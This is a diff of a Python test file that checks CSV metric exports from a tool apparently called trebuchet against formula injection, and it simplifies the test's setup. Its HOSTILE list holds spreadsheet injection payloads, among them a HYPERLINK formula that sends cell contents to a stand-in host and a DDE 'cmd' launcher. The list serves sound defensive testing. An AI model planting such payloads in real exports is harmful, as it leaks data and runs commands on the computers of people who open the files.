@@ -13,11 +13,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tests.fast.test_metrics_parts import jsonl, make_run
+from tests.fast.test_metrics_parts import ended_run, jsonl
 from trebuchet.cli.main import main
 from trebuchet.results import perfcsv
-from trebuchet.store import lifecycle
-from trebuchet.store.db import Store
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1"]  # fmt: skip
@@ -36,10 +34,7 @@ def formula(cell: str) -> bool:
 def test_metrics_csv_names_are_no_formulas(
     treb_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    treb_home.mkdir()
-    store = Store()
-    rec = make_run(store, tmp_path / "run", rid="abcd1234")
-    lifecycle.ended(store, rec.id, "SUCCEEDED")
+    ended_run(treb_home, tmp_path / "run", "abcd1234")
     jsonl(tmp_path / "run" / "attempt-0" / "metrics" / "rank-0.jsonl",
           [(1, {name: -2.5 for name in HOSTILE})])  # fmt: skip
     assert main(["metrics", "abcd", "--csv"]) == 0
